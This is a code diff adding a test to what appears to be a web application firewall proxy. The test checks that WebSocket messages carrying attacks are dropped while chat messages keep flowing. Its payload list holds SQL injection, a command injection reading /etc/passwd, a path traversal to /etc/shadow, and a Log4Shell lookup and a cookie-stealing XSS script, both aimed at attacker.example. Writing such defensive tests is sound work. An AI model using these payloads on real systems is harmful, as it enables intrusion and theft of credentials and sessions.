@@ -753,3 +753,32 @@ def test_waf_websocket_messages_through_twistd(proxy, ws_upstream):  # noqa: F81
             ws.recv(timeout=10)
     assert info.value.rcvd is not None
     assert (info.value.rcvd.code, info.value.rcvd.reason) == (1008, BLOCKED)
+
+
+ATTACK_MESSAGES = [
+    {"type": "message", "text": "1' UNION SELECT username, password FROM users--"},
+    {"type": "message", "text": "; cat /etc/passwd"},
+    {"type": "message", "text": "../../../../etc/shadow"},
+    {"type": "message", "text": "${jndi:ldap://attacker.example/a}"},
+    "<script>document.location='http://attacker.example/?c='+document.cookie</script>",
+]
+
+
+def test_waf_drops_attack_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
+    """Through twistd with refused_message = drop: WebSocket messages carrying SQL
+    injection, command injection, traversal, Log4Shell (JSON chat messages) and XSS (a
+    plain-text message) are each dropped, the chat messages between them are relayed in
+    the order sent, and the session stays open."""
+    from websockets.sync.client import connect
+
+    port = free_port()
+    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
+                       WAF_FILTER + "refused_message = drop\n"), port=port)
+    benign = [json.dumps({"type": "message", "text": f"Thanks, that was message {n}"}) for n in range(len(ATTACK_MESSAGES))]
+    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5) as ws:
+        for attack, fine in zip(ATTACK_MESSAGES, benign):
+            ws.send(attack if isinstance(attack, str) else json.dumps(attack))
+            ws.send(fine)
+        assert [ws.recv(timeout=10) for _ in benign] == benign
+        ws.send(benign[0])
+        assert ws.recv(timeout=10) == benign[0]
